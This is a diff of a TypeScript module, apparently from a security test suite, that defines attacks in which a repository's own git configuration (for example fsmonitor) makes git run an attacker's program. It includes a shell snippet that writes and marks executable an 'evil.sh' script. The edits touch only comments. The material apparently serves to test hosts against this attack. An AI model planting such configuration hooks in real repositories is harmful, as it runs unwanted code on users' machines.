@@ -1,11 +1,11 @@
 /**
- * Attacks by the working copy's own git configuration: whoever runs git on the result obeys it.
- * Rule: each uses one way alone, and works on a plain checkout whose user runs status, diff, add, commit and push.
+ * Attacks by the working copy's own git configuration, which every git that runs on the result obeys.
+ * Rule: each uses one way only, and works on a plain checkout whose user runs status, diff, add, commit and push.
  */
 import type { Attack, Host } from '../attack.ts';
 import { appeared } from '../evidence.ts';
 
-/** A working copy without a repository gets one, since the attacker wants one. */
+/** Makes a repository in a working copy that has none. */
 const START = 'git rev-parse --git-dir >/dev/null 2>&1 || git init --quiet .\n';
 
 /** An attack whose only effect is that the host runs a command of the attacker. */
@@ -26,7 +26,7 @@ function program(touch: string, rest = 'cat'): string {
   return `printf '#!/bin/sh\\n%s\\n%s\\n' "${touch}" '${rest}' > evil.sh; chmod +x evil.sh; evil="$PWD/evil.sh"`;
 }
 
-/** One for each setting by which git runs programs in the host's ordinary life. */
+/** One attack for each setting with which git runs programs during the host's usual work. */
 export const gitConfigurationAttacks: Attack[] = [
   execution(
     'git-config-fsmonitor',
